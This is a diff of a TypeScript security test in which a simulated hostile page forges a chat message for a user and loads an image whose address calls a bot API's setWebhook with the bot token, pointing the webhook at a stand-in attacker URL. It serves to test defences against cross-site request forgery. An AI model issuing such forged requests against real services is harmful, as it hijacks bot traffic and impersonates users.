@@ -518,16 +518,17 @@ describe("a page of another service of this machine", () => {
         const body = JSON.stringify({ text: "not my words" });
         const send = { method: "POST", mode: "no-cors", body } as const;
         await fetch(`${url}/sandbox/chats/${person}/send`, send).catch(() => undefined);
-        const load = (tag: "img" | "iframe", address: string) =>
-          new Promise<void>((done) => {
+        // A function with a name would ask for what the loader of TypeScript has put into this process.
+        const addresses = { img: `${url}/bot${token}/setWebhook?url=${hook}`, iframe: url };
+        for (const tag of ["img", "iframe"] as const) {
+          await new Promise<void>((done) => {
             const element = document.createElement(tag);
             element.addEventListener("load", () => done());
             element.addEventListener("error", () => done());
-            element.src = address;
+            element.src = addresses[tag];
             document.body.append(element);
           });
-        await load("img", `${url}/bot${token}/setWebhook?url=${hook}`);
-        await load("iframe", url);
+        }
       },
       { url: sandbox.url, token: sandbox.token, hook: evilUrl, person: CHEN },
     );
